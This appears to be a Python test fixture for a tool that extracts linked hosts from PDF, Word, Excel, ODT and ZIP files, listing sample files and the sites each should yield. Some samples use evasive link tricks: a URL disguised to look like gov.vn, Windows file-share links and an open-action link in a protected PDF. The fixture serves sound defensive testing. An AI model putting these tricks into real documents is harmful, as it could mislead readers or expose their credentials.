    link = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Annots[<</Subtype/Link/A 5 0 R>>]>>"
    return _pdf_by_hand(
        [base, _PAGES[1], link, b"(HTTPS://A.example/x/)", b"<</S/URI/URI(chuong-2.html)>>"]
    )


_TO_A = _pdf_link("/URI", URI="https://a.example/x?y")
LINKED = {
    "pdf without": (pdf(), ()),
    "pdf": (_TO_A, ("https://a.example",)),
    "pdf, each site once": (
        pdf_linking_to("https://a.example/1", "https://a.example/2", "mailto:a@a.example", "b.pdf"),
        ("https://a.example",),
    ),
    "pdf with signs nobody sees": (
        pdf_linking_to("ht\ntps:\\\\gov.vn\u00a0@a.example\\x", "www.b.example"),
        ("https://gov.vn@a.example", "http://www.b.example"),
    ),
    "pdf with a share of Windows": (
        pdf_linking_to("file://a.example/s", "\\\\b.example\\s", "file:///C:/Users/lan/a.doc"),
        ("//a.example", "//b.example"),
    ),
    "pdf with the start of all addresses": (_with_base(), ("HTTPS://A.example",)),
    "pdf with a password for changes": (
        pdf(
            change=lambda writer: writer.root_object.update(
                {NameObject("/OpenAction"): _act("/URI", URI="https://a.example")}
            ),
            user_password="",
            owner_password="x",
        ),
        ("https://a.example",),
    ),
    "docx": (_related("hyperlink", "https://a.example/x"), ("https://a.example",)),
    "docx with a field": (_field(' HYPERLINK "https:', '//a.example/x" '), ("https://a.example",)),
    "xlsx": (_formula('HYPERLINK("https://a.example/x","Xem")'), ("https://a.example",)),
    "odt": (_link("text:a", "https://a.example/x"), ("https://a.example",)),
    "zip": (archive({"a.pdf": _TO_A}), ("https://a.example",)),
}
